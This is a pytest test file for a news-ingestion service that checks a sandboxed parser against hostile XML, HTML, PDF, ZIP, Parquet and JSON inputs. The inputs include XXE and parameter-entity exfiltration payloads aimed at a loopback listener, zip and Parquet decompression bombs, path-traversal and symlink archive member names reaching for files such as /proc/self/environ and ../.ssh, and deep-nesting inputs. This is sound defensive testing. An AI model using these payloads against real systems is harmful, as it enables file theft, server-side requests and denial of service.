"""Files made to do harm, through the process that parses them: each is refused or parsed, within its limits, and nothing else is touched.

`DATELINE_LONG_TESTS=1` runs twenty times as many damaged files, and holds bombs and nesting to two seconds each.
"""

import gzip
import io
import json
import os
import random
import resource
import socket
import struct
import threading
import time
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from service.articles.parsing import KINDS
from service.articles.raw import Raw
from service.articles.sandbox import Sandbox
from service.errors import BadArticle
from tests.pdf_writer import column, write_pdf

LONG = bool(os.environ.get("DATELINE_LONG_TESTS"))
SECONDS, MEMORY_MB = 10, 1_000
SEEDS = 4_000 if LONG else 200
STEPS = 600 if LONG else 30
"""Damaged copies of a file by flipped bits, and by being cut off."""
WORDS = "The dam at Eastholm holds, the engineers said on Monday. "
SECRET = "canary-7f3a"
Case = tuple[str, str, bytes]
"""What it is, the kind it is parsed as, and the bytes."""


@dataclass
class Tally:
    """What became of a corpus."""

    tried: int = 0
    rejected: list[str] = field(default_factory=list)
    parsed: list[str] = field(default_factory=list)
    deaths: list[str] = field(default_factory=list)
    slowest: tuple[float, str] = (0.0, "")
    found: list[Raw] = field(default_factory=list)
    growth_mb: float = 0.0

    def line(self, name: str) -> str:
        """The counts, to be printed."""
        seconds, slowest = self.slowest
        return (
            f"{name}: {self.tried} tried, {len(self.rejected)} rejected, {len(self.parsed)} parsed, {len(self.deaths)} processes ended, "
            f"slowest {seconds:.2f} s ({slowest}), parent +{self.growth_mb:.0f} MB"
        )


class Peak:
    """The most memory that this process has from here on, in megabytes above what it has now."""

    def __init__(self) -> None:
        self._file = Path("/proc/self/status")
        if self._file.exists():
            Path("/proc/self/clear_refs").write_text("5")  # forget the peak so far: proc(5)
        self._start = self._peak()

    def growth(self) -> float:
        """Megabytes."""
        return self._peak() - self._start

    def _peak(self) -> float:
        if self._file.exists():
            return int(self._file.read_text().partition("VmHWM:")[2].split()[0]) / 1024
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / (1024 * 1024)  # macOS counts bytes, since the process began


def run(cases: Iterable[Case]) -> Tally:
    """Parse each case; a process that ended is noted, with what ended it."""
    tally = Tally()
    with Sandbox(SECONDS, MEMORY_MB) as sandbox:
        sandbox.parse("text", b"warm")
        peak = Peak()
        for name, kind, data in cases:
            start = time.monotonic()
            try:
                raws = sandbox.parse(kind, data, name="a.gz" if data.startswith(b"\x1f\x8b") else "a", url="https://herald.example/a")
            except BadArticle as error:
                raws = []
                if sandbox.pid is None:
                    tally.deaths.append(f"{name}: {error}")
            tally.tried += 1
            (tally.parsed if any(raw.row is not None for raw in raws) else tally.rejected).append(name)
            tally.found += raws
            tally.slowest = max(tally.slowest, (time.monotonic() - start, name))
        tally.growth_mb = peak.growth()
        assert sandbox.parse("text", b"The dam holds.")[0].row == {"text": "The dam holds."}
    return tally


def show(capsys: pytest.CaptureFixture[str], name: str, tally: Tally) -> None:
    """Print the counts, whatever pytest captures."""
    with capsys.disabled():
        print("\n" + tally.line(name) + "".join(f"\n  ended: {death}" for death in tally.deaths[:8]))


@dataclass
class Listener:
    """A server on loopback that nobody should call."""

    port: int
    calls: list[str]


@pytest.fixture
def listener() -> Iterator[Listener]:
    """It counts who connects."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        calls: list[str] = []

        def listen() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                calls.append(str(address))
                connection.close()

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield Listener(server.getsockname()[1], calls)
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


def feed(prolog: str, inside: str) -> str:
    """An RSS feed of one item."""
    return (
        f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel><title>Herald</title><item><title>Dam</title>'
        f"<description>{WORDS}{inside}</description></item></channel></rss>"
    )


def page(prolog: str, inside: str) -> str:
    """An XHTML page with an article."""
    return (
        f'{prolog}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Dam</title></head><body><article>'
        f"<p>{WORDS * 5}</p><p>{inside}</p></article></body></html>"
    )


def laughs(levels: int) -> str:
    """Entities of entities, ten each."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE x [<!ENTITY l0 "lol">{entities}]>'


def xml_cases(canary: Path, port: int) -> Iterator[Case]:
    """Entities that grow, read files or call home, in feeds, in XML and in pages."""
    address = f"http://127.0.0.1:{port}/x"
    prologs = {
        "billion laughs": (laughs(10), "&l9;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
        "file": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary.as_uri()}">]>', "&a;"),
        "plain path": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary}">]>', "&a;"),
        "public": (f'<!DOCTYPE x [<!ENTITY a PUBLIC "x" "{canary.as_uri()}">]>', "&a;"),
        "http": (f'<!DOCTYPE x [<!ENTITY a SYSTEM "{address}">]>', "&a;"),
        "parameter entity": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}"> %p;]>', "x"),
        "parameter file": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{canary.as_uri()}"><!ENTITY % e "<!ENTITY a SYSTEM \'{address}?%f;\'>"> %e;]>',
            "&a;",
        ),
        "external dtd": (f'<!DOCTYPE x SYSTEM "{address}">', "x"),
        "dtd file": (f'<!DOCTYPE x SYSTEM "{canary.as_uri()}">', "x"),
        "xinclude": ("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary.as_uri()}" parse="text"/>'),
        "stylesheet": (f'<?xml-stylesheet type="text/xsl" href="{address}"?>', "x"),
        "schema": ("", f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {address}"/>'),
        "recursive entity": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "long attribute": ("", f'<a b="{"x" * 2_000_000}"/>'),
        "many attributes": (
            "",
            "<a" + "".join(f' b{n}="x"' for n in range(15_000)) + "/>",
        ),  # quadratic in libxml2: 50,000 take half a minute
    }
    for name, (prolog, inside) in prologs.items():
        yield f"{name} in a feed", "feed", feed(prolog, inside).encode()
        yield f"{name} in XML", "xml", feed(prolog, inside).encode()
        yield f"{name} in a page", "html", page(prolog, inside).encode()
        yield f"{name} in XHTML", "xml", page(prolog, inside).encode()
        yield f"{name} in UTF-16", "xml", feed(prolog, inside).replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
        yield f"{name} in UTF-7", "xml", feed(prolog, inside).replace("?>", ' encoding="UTF-7"?>', 1).encode("utf-7")


def page_cases(canary: Path, port: int) -> Iterator[Case]:
    """Whatever a browser would load."""
    address = f"http://127.0.0.1:{port}/x"
    for name, inside in {
        "frame": f'<iframe src="{address}"></iframe><iframe src="{canary.as_uri()}"></iframe><object data="{address}"></object>',
        "picture": f'<img src="{address}"><video src="{address}"><link rel="stylesheet" href="{address}">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={address}"><base href="{address}"><script src="{address}"></script>',
        "json-ld context": f'<script type="application/ld+json">{{"@context": "{address}", "@type": "NewsArticle"}}</script>',
        "json-ld file": f'<script type="application/ld+json">{{"@context": "{canary.as_uri()}", "@type": "NewsArticle"}}</script>',
        "rdfa": f'<div vocab="{address}" typeof="NewsArticle"><span property="headline">x</span></div>',
        "microdata": f'<div itemscope itemtype="{address}" itemref="x"><span itemprop="headline">x</span></div>',
        "canonical": f'<link rel="canonical" href="{address}"><link rel="amphtml" href="{address}"><link rel="next" href="{address}">',
    }.items():
        yield name, "html", page("", inside).encode()
    saved = f"MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Location: {address}\r\n\r\n" + page("", "x")
    yield "mhtml", "mhtml", saved.encode()
    yield "mhtml elsewhere", "mhtml", f'Content-Type: message/external-body; access-type=local-file; name="{canary}"\r\n\r\nx'.encode()
    link = f"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI({address})>>>>]/AA<</O<</S/SubmitForm/F({address})>>>>"
    remote = f"/F(file://{canary})/Names<</EmbeddedFiles<</Names[(a)<</F({canary})>>]>>>>/OpenAction<</S/GoToR/F({canary})>>"
    pdf = write_pdf([column(WORDS)], xmp=f'<!DOCTYPE x [<!ENTITY a SYSTEM "{canary.as_uri()}">]><rdf:RDF>&a;</rdf:RDF>')
    yield "pdf that links", "pdf", pdf.replace(b"/Type/Page/", f"/Type/Page{link}/".encode())
    yield "pdf that opens", "pdf", pdf.replace(b"/Type/Catalog", f"/Type/Catalog{remote}".encode())


def test_no_file_reads_another_or_calls_home(tmp_path: Path, listener: Listener, capsys: pytest.CaptureFixture[str]) -> None:
    """External entities, XInclude, contexts, frames and links: the canary stays unread, and nobody connects."""
    canary = tmp_path / "secret.txt"
    canary.write_text(SECRET)
    tally = run([*xml_cases(canary, listener.port), *page_cases(canary, listener.port)])
    show(capsys, "XML and pages", tally)
    assert SECRET not in repr(tally.found)
    assert listener.calls == []
    with socket.create_connection(("127.0.0.1", listener.port)) as call:
        assert call.recv(1) == b""
    assert len(listener.calls) == 1  # it does hear who calls
    growing = {f"{name} in {where}" for name in ("billion laughs", "quadratic", "recursive entity") for where in ("a feed", "XML")}
    assert growing <= set(tally.rejected)
    assert all(len(repr(raw)) < 4_000_000 for raw in tally.found)
    assert tally.deaths == []
    assert tally.growth_mb < 100


def deflated(block: bytes, times: int) -> bytes:
    """A zlib stream of many blocks, written without holding them."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(block) for _ in range(times)) + packer.flush()


def stored(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return sink.getvalue()


def quoting(times: int) -> bytes:
    """A member of 20 MB that the directory names many times over: full overlap, after D. Fifield, A better zip bomb (WOOT 2019)."""
    data = stored({"a.txt": b"a" * 20_000_000})
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    directory = entry * times
    return data[:start] + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, times, times, len(directory), start, 0)


def bombs() -> Iterator[Case]:
    """A few kilobytes that would be gigabytes."""
    block = b"\0" * 1_000_000
    packed = gzip.compress(block * 10) * 40
    for kind in ("html", "jsonl", "zip", "feed"):
        yield f"gzip as {kind}", kind, packed
    huge = stored({"a.txt": b"\0" * 30_000_000})
    yield "ratio", "zip", huge
    yield "nested", "zip", stored({f"{n}.zip": stored({f"{m}.zip": huge for m in range(4)}, zipfile.ZIP_STORED) for n in range(4)})
    yield "overlapping", "zip", quoting(60_000)
    yield "many members", "zip", stored({f"{n}.txt": b"" for n in range(12_000)}, zipfile.ZIP_STORED)
    yield "many moderate", "zip", stored({f"{n}.txt": bytes(range(256)) * 40_000 for n in range(60)})
    pages = write_pdf([column(WORDS)])
    stream = deflated(b"BT (" + b"a" * 100_000 + b") Tj ET\n", 500)
    yield "pdf stream", "pdf", with_stream(pages, stream, "/FlateDecode")
    yield "pdf stream twice packed", "pdf", with_stream(pages, zlib.compress(deflated(block, 300)), "[/FlateDecode/FlateDecode]")
    yield "pdf run lengths", "pdf", with_stream(pages, zlib.compress(b"\x81 " * 500_000), "[/FlateDecode/RunLengthDecode]")
    for codec in ("zstd", "gzip", "snappy", "none"):
        sink = io.BytesIO()
        pq.write_table(
            pa.table({"text": pa.array(["x" * 1_000_000]).dictionary_encode().take(pa.array([0] * 5_000))}), sink, compression=codec
        )
        yield f"parquet dictionary {codec}", "parquet", sink.getvalue()
        sink = io.BytesIO()
        pq.write_table(pa.table({"text": ["x" * 30_000_000]}), sink, compression=codec, use_dictionary=False)
        yield f"parquet page {codec}", "parquet", sink.getvalue()


def with_stream(pdf: bytes, stream: bytes, codec: str) -> bytes:
    """The PDF with other content of its first page; the table of places is wrong then, and the reader builds its own."""
    start = pdf.index(b"6 0 obj")
    content = f"6 0 obj\n<</Length {len(stream)}/Filter{codec}>>\nstream\n".encode() + stream + b"\nendstream\nendobj\n"
    return pdf[:start] + content + pdf[pdf.index(b"7 0 obj") :]


def test_bombs_end_at_a_limit(capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing unpacks without end: each is refused, or gives no more than an article may hold; the parent keeps its memory."""
    cases = list(bombs())
    tally = run(case for case in cases if case[1] != "parquet")
    show(capsys, "bombs", tally)
    assert {"ratio", "overlapping", "many members", "gzip as html"} <= set(tally.rejected)
    assert tally.growth_mb < 100
    tables = run(case for case in cases if case[1] == "parquet")
    show(capsys, "bombs of Parquet", tables)
    assert tally.tried + tables.tried == len(cases) >= 20
    assert tables.growth_mb < 400  # a dictionary of one text makes 128 MB of articles before it is refused
    if LONG:
        assert max(tally.slowest, tables.slowest)[0] < 2, "on a machine that has nothing else to do"


def names(folder: Path) -> list[str]:
    """Names that lead elsewhere, were a member written or read by them."""
    target = "secret.txt"
    up = [
        f"{dots}{target}"
        for dots in ("../", "../../", "../" * 20, "./../", "a/../../", "..//", "....//", "..;/", "%2e%2e/", "..%2f", "..%5c")
    ]
    windows = [
        f"..\\{target}",
        f"C:\\{target}",
        f"C:{target}",
        f"\\\\host\\share\\{target}",
        f"\\{target}",
        f"a\\..\\..\\{target}",
        "CON.txt",
        "a:b.txt",
    ]
    roots = [
        str(folder / target),
        f"/{target}",
        f"//{target}",
        f"///etc/{target}",
        f"file://{folder}/{target}",
        f"~/{target}",
        f"~root/{target}",
        f"$HOME/{target}",
    ]
    odd = [
        f"{target}\0.txt",
        f"\0{target}",
        f"a\n{target}",
        f"\x1b[2J{target}",
        f"\u202e{target}",
        f"．．/{target}",
        f"‥/{target}",
        f"../{target}/../{target}",
    ]
    more = [
        "/dev/stdin.txt",
        "/proc/self/environ.txt",
        "/proc/self/fd/0.txt",
        "../.ssh/id.txt",
        "a/" * 5_000 + target,
        "a" * 60_000 + ".txt",
        " .txt",
        "|id.txt",
        "-rf.txt",
    ]
    return [*up, *windows, *roots, *odd, *more]


def test_names_in_archives_lead_nowhere(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Each name alone and as a link to the canary: what comes out is the member's own words or nothing, and no file is new."""
    canary = tmp_path / "secret.txt"
    canary.write_text(SECRET)
    here = sorted(Path.cwd().iterdir())

    def cases() -> Iterator[Case]:
        for number, name in enumerate(names(tmp_path)):
            plain = f"{number:04}" + "#" * (len(name.encode()) - 8) + ".txt"
            data = stored({plain: WORDS.encode()}, zipfile.ZIP_STORED)
            yield (
                ascii(name)[:60],
                "zip",
                data.replace(plain.encode(), name.encode()) if len(plain) == len(name.encode()) else stored({name: WORDS.encode()}),
            )
            link = zipfile.ZipInfo("link.txt")
            link.external_attr = 0o120777 << 16
            sink = io.BytesIO()
            with zipfile.ZipFile(sink, "w") as archive:
                archive.writestr(link, name.encode())
            yield f"link to {ascii(name)[:50]}", "zip", sink.getvalue()

    tally = run(cases())
    show(capsys, "names in archives", tally)
    assert tally.tried >= 80
    assert SECRET not in repr(tally.found)
    assert all(raw.row in (None, {"text": WORDS}) for raw in tally.found if not raw.problem)
    assert not [name for name in tally.parsed if name.startswith("link to")]
    assert sorted(tmp_path.iterdir()) == [canary]
    assert canary.read_text() == SECRET
    assert sorted(Path.cwd().iterdir()) == here
    assert tally.deaths == []


def deep() -> Iterator[Case]:
    """Nesting, length and numbers beyond what parsers expect."""
    tags = 600_000 // 11
    yield "nested tags", "html", b"<div>" * tags + WORDS.encode() + b"</div>" * tags
    yield "nested spans", "html", page("", "<span>" * 50_000 + WORDS).encode()
    yield "nested lists", "html", page("", "<ul><li>" * 40_000 + WORDS).encode()
    yield "nested tables", "html", page("", "<table><tr><td>" * 20_000 + WORDS).encode()
    yield "nested quotes", "html", page("", "<blockquote>" * 50_000 + WORDS).encode()
    yield "unclosed bold", "html", page("", "<b><i>" * 50_000 + WORDS).encode()
    yield "many paragraphs", "html", page("", f"<p>{WORDS}</p>" * 20_000).encode()
    yield "long comment", "html", page("", "<!--" * 100_000).encode()
    yield "open angles", "html", b"<" * 1_000_000
    yield "deep json-ld", "html", page("", f'<script type="application/ld+json">{"[" * 100_000}</script>').encode()
    yield "long number in json-ld", "html", page("", f'<script type="application/ld+json">{{"a": {"9" * 100_000}}}</script>').encode()
    yield "nested feed", "feed", feed("", "<a>" * 100_000 + "</a>" * 100_000).encode()
    yield "nested xml", "xml", b"<rss>" + b"<a>" * 100_000
    yield "nested page in feed", "feed", feed("", "&lt;div&gt;" * 40_000).encode()
    yield "many items", "feed", feed("", "").replace("</channel>", "<item><title>x</title></item>" * 30_000 + "</channel>").encode()
    brackets = "[" * 100_000 + "]" * 100_000
    for kind in ("json", "jsonl"):
        yield f"deep {kind}", kind, f'{{"text": "x", "a": {brackets}}}'.encode()
        yield f"deep objects {kind}", kind, ('{"a":' * 100_000 + "1" + "}" * 100_000).encode()
        yield f"digits {kind}", kind, f'{{"text": "x", "a": {"9" * 100_000}}}'.encode()
        yield f"exponent {kind}", kind, b'{"text": "x", "a": 1e999999999}'
        yield f"nul {kind}", kind, b'{"text": "a\0b"}'
        yield f"surrogate {kind}", kind, b'{"text": "a\\ud800", "title": "\\udfff"}'
        yield f"not UTF-8 {kind}", kind, b'{"text": "\xff\xfe\xed\xa0\x80"}'
        yield f"utf-16 {kind}", kind, '{"text": "x"}'.encode("utf-16")
        yield f"many keys {kind}", kind, json.dumps({"text": "x", **{f"k{n}": n for n in range(200_000)}}).encode()
        yield f"same key {kind}", kind, b'{"text": "x"' + b', "a": 1' * 200_000 + b"}"
    yield "deep json feed", "json", b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + b"[" * 100_000 + b"}"
    yield (
        "odd json feed",
        "json",
        b'{"version": "https://jsonfeed.org/version/1.1", "items": [1, null, {"id": [], "content_text": {}, "url": 5}]}',
    )
    for mark in ("[", "(", "*", "_", "`", "<", "> ", "- ", "![", "[a](", "&", "\\", "|", "# ", "1. ", "  "):
        yield f"markdown {mark!r}", "markdown", (mark * 50_000 + " x").encode()
    yield "yaml depth", "markdown", f"---\ntitle: {'[' * 20_000}\n---\nx".encode()
    yield "yaml anchors", "markdown", ("---\na: &a [x]\n" + "".join(f"b{n}: [*a,*a]\n" for n in range(1_000)) + "---\nx").encode()
    yield "yaml keys", "markdown", ("---\n" + "? " * 10_000 + "\n---\nx").encode()
    yield "one long line", "text", b"x" * 5_000_000
    yield "csv of columns", "csv", b"a," * 1_000_000 + b"text\n"
    yield "csv header", "csv", b"x" * 8_000_000 + b"\n1"
    yield "csv open quote", "csv", b'text,a\n"' + (b"x" * 90 + b",y\n") * 80_000
    yield "csv quotes", "csv", b"text,a\n" + b'"' * 3_000_000
    yield "csv short rows", "csv", b"text,a\n" + b"x\n" * 20_000
    yield "csv nul", "csv", b"text,a\n\0,\0\nx,y\n"
    yield "csv returns", "csv", b"text\r" + b"x\r" * 100_000
    yield "mhtml parts", "mhtml", b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\n" * 20_000
    yield "mhtml depth", "mhtml", b"".join(b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (n, n) for n in range(3_000))
    yield "mhtml headers", "mhtml", b"Content-Location: =?utf-8?q?" + b"=20" * 300_000 + b"?=\n" * 2 + b"\n<p>x"
    for encoding in ("utf-16", "utf-32", "utf-7", "shift_jis", "gb18030", "euc_kr", "cp1251", "hz", "iso2022_jp"):
        text = WORDS + ("洪水" if encoding in {"shift_jis", "gb18030", "hz", "iso2022_jp"} else "")
        for kind in ("html", "feed", "text", "csv"):
            yield f"{encoding} {kind}", kind, (page("", text) if kind == "html" else feed("", text)).encode(encoding)
    for charset in ("utf-7", "bogus", "x" * 10_000, "base64", "rot13", "idna", "unicode_escape", "undefined", "zlib"):
        yield f"charset {charset[:9]}", "html", page("", "x").replace("<head>", f'<head><meta charset="{charset}">').encode()
        yield f"xml charset {charset[:9]}", "xml", feed("", "x").replace('"1.0"?', f'"1.0" encoding="{charset}"?').encode()
    for kind in sorted(set(KINDS.values())):
        yield f"empty {kind}", kind, b""
        yield f"NUL {kind}", kind, b"\0" * 100_000
        yield f"noise {kind}", kind, random.Random(kind).randbytes(50_000)
        yield f"0xff {kind}", kind, b"\xff" * 100_000


def test_depth_and_length_and_encodings_are_survived(capsys: pytest.CaptureFixture[str]) -> None:
    """Refused with a reason or parsed; the process that does it may have to end at a limit, the service never."""
    tally = run(deep())
    show(capsys, "depth, length, encodings", tally)
    assert {"deep json", "deep jsonl", "digits json", "nul jsonl", "one long line", "csv of columns"} <= set(tally.rejected)
    assert tally.growth_mb < 150
    assert not LONG or tally.slowest[0] < 2, "on a machine that has nothing else to do"


def pdfs() -> Iterator[Case]:
    """Page trees and objects that lead in circles, or claim more than there is."""
    good = write_pdf([column(WORDS)] * 3)
    kids = good[good.index(b"/Kids[") : good.index(b"]", good.index(b"/Kids[")) + 1]
    for name, old, new in (
        ("count", b"/Count 3", b"/Count 999999999"),
        ("negative count", b"/Count 3", b"/Count -5"),
        ("overflowing count", b"/Count 3", b"/Count 99999999999999999999"),
        ("tree is its own child", kids, b"/Kids[2 0 R 2 0 R]"),
        ("tree of one page", kids, b"/Kids[" + b"5 0 R " * 100_000 + b"]"),
        ("page is its parent", b"/Type/Page/Parent 2 0 R", b"/Type/Page/Parent 5 0 R"),
        ("content is the page", b"/Contents 6 0 R", b"/Contents 5 0 R"),
        ("contents by the thousand", b"/Contents 6 0 R", b"/Contents[" + b"6 0 R " * 5_000 + b"]"),
        ("length is its own object", b"/Length ", b"/Length 6 0 R %"),
        ("huge length", b"/Length ", b"/Length 99999999999 %"),
        ("huge page", b"[0 0 595 842]", b"[0 0 1e38 1e38]"),
        ("huge font", b"/F1 11", b"/F1 1e30"),
        ("font is the catalog", b"/F1 3 0 R", b"/F1 1 0 R"),
        ("deep array", b"/Type/Catalog", b"/Type/Catalog/A " + b"[" * 100_000),
        ("deep dictionary", b"/Type/Catalog", b"/Type/Catalog/A " + b"<</A " * 100_000),
        ("previous table is this", b"trailer\n<<", b"trailer\n<</Prev " + str(good.rindex(b"xref\n0")).encode()),
        ("size", b"/Size ", b"/Size 999999999 %"),
        ("root", b"/Root 1 0 R", b"/Root 99999 0 R"),
        ("names", b"/Type/Catalog", b"/Type/Catalog/Names<</Dests 2 0 R>>/Outlines 1 0 R/PageLabels<</Nums[0 1 0 R]>>"),
    ):
        yield name, "pdf", good.replace(old, new)
    form = b"q " + b"/X Do " * 100 + b"Q"
    loop = good.replace(b"/Font<</F1", b"/XObject<</X 6 0 R>>/Font<</F1").replace(
        b"6 0 obj\n<<", b"6 0 obj\n<</Subtype/Form/Resources<</XObject<</X 6 0 R>>>>"
    )
    yield "form in itself", "pdf", with_form(loop, form)
    yield "many operators", "pdf", with_stream(good, zlib.compress(b"q " * 3_000_000), "/FlateDecode")
    yield "many words", "pdf", with_stream(good, zlib.compress(b"BT /F1 9 Tf " + b"1 1 Td (word) Tj " * 300_000 + b"ET"), "/FlateDecode")
    yield "unknown filter", "pdf", with_stream(good, b"x" * 1_000, "/JBIG2Decode")
    yield "filters by the thousand", "pdf", with_stream(good, b"x" * 1_000, "[" + "/ASCIIHexDecode" * 5_000 + "]")


def with_form(pdf: bytes, form: bytes) -> bytes:
    """The content of the first page replaced, its dictionary kept."""
    start = pdf.index(b"stream\n", pdf.index(b"6 0 obj")) + 7
    return pdf[:start] + form + pdf[pdf.index(b"\nendstream", start) :]


def test_pdfs_in_circles_are_survived(capsys: pytest.CaptureFixture[str]) -> None:
    """PDFium's own guards, and the process around it."""
    tally = run(pdfs())
    show(capsys, "PDFs in circles", tally)
    assert tally.growth_mb < 100


def whole_files() -> dict[str, bytes]:
    """One good file of each kind that has a structure to break."""
    sink = io.BytesIO()
    columns = {"text": [WORDS * 3, WORDS], "tags": [["a"], ["b", "c"]], "date": pa.array([1, 2], pa.timestamp("ms", tz="UTC"))}
    pq.write_table(pa.table(columns), sink, compression="snappy")
    return {
        "pdf": write_pdf([column(WORDS, "", WORDS)] * 2, info="/Title(Dam)/CreationDate(D:20250407090000Z)", xmp="<rdf:RDF></rdf:RDF>"),
        "parquet": sink.getvalue(),
        "zip": stored({"a.txt": WORDS.encode(), "b.html": page("", "x").encode(), "c.jsonl": b'{"text": "x"}'}),
        "html": page("", "x").encode(),
        "feed": feed("", "x").encode(),
        "mhtml": b"Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n" + page("", "x").encode() + b"\n--b--\n",
    }


def test_files_that_are_cut_off_are_survived(capsys: pytest.CaptureFixture[str]) -> None:
    """Every beginning of a good file, in steps; no process ends over one."""
    cut = (
        (f"{kind} cut at {at}", kind, data[:at])
        for kind, data in whole_files().items()
        for at in range(0, len(data), max(1, len(data) // STEPS))
    )
    tally = run(cut)
    show(capsys, "cut off", tally)
    assert tally.deaths == []
    assert tally.growth_mb < 50


def flipped(data: bytes, seed: int) -> bytes:
    """The file with one to eight bits turned over, half of the time near its end, where tables of contents are."""
    chance = random.Random(seed)
    damaged = bytearray(data)
    first = 0 if chance.random() < 0.5 else max(0, len(data) - 600)
    for _ in range(chance.randint(1, 8)):
        damaged[chance.randrange(first, len(data))] ^= 1 << chance.randrange(8)
    return bytes(damaged)


def test_files_with_flipped_bits_are_survived(capsys: pytest.CaptureFixture[str]) -> None:
    """Two hundred of each; a process that ends over one takes nothing with it."""
    files = whole_files()
    cases = (
        (f"{kind} seed {seed}", kind, flipped(files[kind], seed))
        for kind in ("pdf", "parquet", "zip", "html", "feed")
        for seed in range(SEEDS)
    )
    tally = run(cases)
    show(capsys, "flipped bits", tally)
    assert tally.tried == 5 * SEEDS
    assert len(tally.parsed) > SEEDS  # the damage was small enough to reach the parsers' insides
    assert len(tally.deaths) * 50 < tally.tried
    assert tally.growth_mb < 100
